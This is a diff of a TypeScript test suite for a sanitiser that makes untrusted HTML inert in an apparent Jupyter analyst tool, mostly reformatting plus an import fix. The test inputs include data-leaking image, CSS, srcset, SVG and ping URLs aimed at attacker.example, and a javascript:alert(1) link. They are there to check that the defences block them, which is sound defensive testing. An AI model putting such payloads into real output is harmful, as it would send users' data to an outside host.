@@ -5,11 +5,12 @@
  * fetch the transform let through.
  */
 
-import { heldImageText, inertCss, inertHtml, linkAddress, makeInert } from '../untrusted';
+import { heldImageText, inertCss, inertHtml, linkAddress, makeInert } from '../../untrusted';
 import { loads } from './loads';
 
 /** A 1x1 PNG. */
-const DOT = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
+const DOT =
+  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
 
 /** `html` made inert, as a div holding it. */
 function inert(html: string): HTMLDivElement {
@@ -26,17 +27,25 @@ describe('images', () => {
     expect(loads(html)).not.toEqual([]);
     const host = inert(html);
     expect(host.querySelector('img')).toBeNull();
-    expect(host.textContent).toBe('North leads [image: chart, http://attacker.example/?d=North-1204]');
+    expect(host.textContent).toBe(
+      'North leads [image: chart, http://attacker.example/?d=North-1204]'
+    );
     // The wording of jupyter_analyst/untrusted.py's answer_html.
     expect(heldImageText('chart', 'http://attacker.example/c.png?q=secret')).toBe(
       '[image: chart, http://attacker.example/c.png?q=secret]'
     );
-    expect(inert('<img src="https://attacker.example/x.png">').textContent).toBe('[image, https://attacker.example/x.png]');
+    expect(inert('<img src="https://attacker.example/x.png">').textContent).toBe(
+      '[image, https://attacker.example/x.png]'
+    );
   });
 
   it('does the same for relative images, which would load from the Jupyter server', () => {
-    expect(inert('<img src="files/secret.png" alt="s">').textContent).toBe('[image: s, files/secret.png]');
-    expect(inert('<img src="//attacker.example/x">').textContent).toBe('[image, //attacker.example/x]');
+    expect(inert('<img src="files/secret.png" alt="s">').textContent).toBe(
+      '[image: s, files/secret.png]'
+    );
+    expect(inert('<img src="//attacker.example/x">').textContent).toBe(
+      '[image, //attacker.example/x]'
+    );
   });
 
   it('keeps embedded images, without their other sources', () => {
@@ -47,14 +56,20 @@ describe('images', () => {
   });
 
   it('names an embedded image of another type by its type only', () => {
-    expect(inert('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">').textContent).toBe('[image, data:image/svg+xml…]');
+    expect(inert('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">').textContent).toBe(
+      '[image, data:image/svg+xml…]'
+    );
   });
 
   it('does not load an image given by srcset alone, or by a picture source', () => {
-    expect(inert('<img srcset="https://attacker.example/a.png 1x, https://attacker.example/b.png 2x" alt="a">').textContent).toBe(
-      '[image: a, https://attacker.example/a.png 1x, https://attacker.example/b.png 2x]'
+    expect(
+      inert(
+        '<img srcset="https://attacker.example/a.png 1x, https://attacker.example/b.png 2x" alt="a">'
+      ).textContent
+    ).toBe('[image: a, https://attacker.example/a.png 1x, https://attacker.example/b.png 2x]');
+    const host = inert(
+      `<picture><source srcset="https://attacker.example/p.webp"><img src="${DOT}"></picture>`
     );
-    const host = inert(`<picture><source srcset="https://attacker.example/p.webp"><img src="${DOT}"></picture>`);
     expect(host.querySelector('source')).toBeNull();
     expect(host.querySelector('img')!.getAttribute('src')).toBe(DOT);
   });
@@ -82,14 +97,16 @@ describe('images', () => {
 });
 
 describe('styles', () => {
-  it("drops an inline style that loads, and keeps one that does not", () => {
+  it('drops an inline style that loads, and keeps one that does not', () => {
     const host = inert(
       '<span style="background-image: url(https://attacker.example/bg.png)">a</span>' +
         '<span style="color: red; background: linear-gradient(red, rgb(0 0 255))">b</span>'
     );
     const [a, b] = Array.from(host.querySelectorAll('span'));
     expect(a.hasAttribute('style')).toBe(false);
-    expect(b.getAttribute('style')).toBe('color: red; background: linear-gradient(red, rgb(0 0 255))');
+    expect(b.getAttribute('style')).toBe(
+      'color: red; background: linear-gradient(red, rgb(0 0 255))'
+    );
   });
 
   it('sees a url however it is written: case, escapes, comments, image-set, cursors, list markers', () => {
@@ -107,7 +124,9 @@ describe('styles', () => {
       'content: attr(data-x url)'
     ]) {
       expect([style, inertCss(style)]).toEqual([style, false]);
-      expect(inert(`<b style='${style}'>x</b>`).querySelector('b')!.hasAttribute('style')).toBe(false);
+      expect(inert(`<b style='${style}'>x</b>`).querySelector('b')!.hasAttribute('style')).toBe(
+        false
+      );
     }
   });
 
@@ -129,7 +148,9 @@ describe('SVG', () => {
     );
     expect(host.querySelector('image')).toBeNull();
     expect(host.querySelectorAll('svg')).toHaveLength(2);
-    expect(host.textContent).toBe(' [image, https://attacker.example/svg.png?d=1] [image, https://attacker.example/xlink.png]');
+    expect(host.textContent).toBe(
+      ' [image, https://attacker.example/svg.png?d=1] [image, https://attacker.example/xlink.png]'
+    );
   });
 
   it('keeps an embedded <image>, and references to places in the same SVG', () => {
@@ -181,12 +202,16 @@ describe('links', () => {
 
   it('writes a link as the browser reads it, so it cannot turn relative', () => {
     expect(linkAddress('http:files/secret.csv')).toBe('http://files/secret.csv');
-    expect(inert('<a href="http:files/x">x</a>').querySelector('a')!.getAttribute('href')).toBe('http://files/x');
+    expect(inert('<a href="http:files/x">x</a>').querySelector('a')!.getAttribute('href')).toBe(
+      'http://files/x'
+    );
     expect(linkAddress('https://example.org/a b')).toBe('https://example.org/a%20b');
   });
 
   it('keeps a place in the page as it is, and SVG links under the same rules', () => {
-    const host = inert('<a href="#totals">t</a><svg><a href="javascript:alert(1)"><text>j</text></a><a xlink:href="https://example.org/">e</a></svg>');
+    const host = inert(
+      '<a href="#totals">t</a><svg><a href="javascript:alert(1)"><text>j</text></a><a xlink:href="https://example.org/">e</a></svg>'
+    );
     const [place, js, out] = Array.from(host.querySelectorAll('a'));
     expect(place.getAttribute('href')).toBe('#totals');
     expect(place.hasAttribute('target')).toBe(false);
@@ -195,7 +220,9 @@ describe('links', () => {
   });
 
   it('sends no ping and starts no download', () => {
-    const a = inert('<a href="https://example.org/" ping="https://attacker.example/ping" download="x.html">x</a>').querySelector('a')!;
+    const a = inert(
+      '<a href="https://example.org/" ping="https://attacker.example/ping" download="x.html">x</a>'
+    ).querySelector('a')!;
     expect(a.hasAttribute('ping')).toBe(false);
     expect(a.hasAttribute('download')).toBe(false);
   });
